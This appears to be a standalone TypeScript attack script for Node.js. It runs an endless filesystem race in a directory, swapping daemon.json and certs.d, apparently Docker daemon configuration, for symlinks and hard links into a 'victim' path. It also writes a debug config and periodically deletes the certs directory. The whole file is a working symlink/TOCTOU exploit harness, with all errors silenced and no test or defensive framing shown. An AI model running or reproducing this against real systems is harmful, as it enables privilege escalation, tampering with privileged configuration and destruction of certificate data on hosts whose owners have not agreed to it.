// node swap-forever.ts DIRECTORY VICTIM: swaps what stands in DIRECTORY for links into VICTIM and back, until it is
// killed. It is run as whoever owns DIRECTORY, or may make names in it.
import { linkSync, mkdirSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'

const [directory = '', victim = ''] = process.argv.slice(2)
const daemon = `${directory}/daemon.json`
const certs = `${directory}/certs.d`
let turns = 0

// What the sticky bit or the kernel forbids is simply not had.
function attempt(work: () => void): void {
  try {
    work()
  } catch {}
}

for (;;) {
  const spare = `${directory}/spare-${++turns % 8}`
  attempt(() => rmSync(spare, { recursive: true, force: true }))
  const ways = [
    () => writeFileSync(spare, '{\n\t"debug": true\n}'),
    () => symlinkSync(`${victim}/daemon.json`, spare),
    () => linkSync(`${victim}/daemon.json`, spare),
    () => symlinkSync(victim, spare),
    () => mkdirSync(`${spare}/docker.io`, { recursive: true }),
  ] as const
  attempt(ways[turns % ways.length]!)
  attempt(() => renameSync(spare, turns % ways.length < 3 ? daemon : certs))
  attempt(() => turns % 7 === 0 && rmSync(certs, { recursive: true, force: true }))
  if (turns === 1) process.stdout.write('.')
}
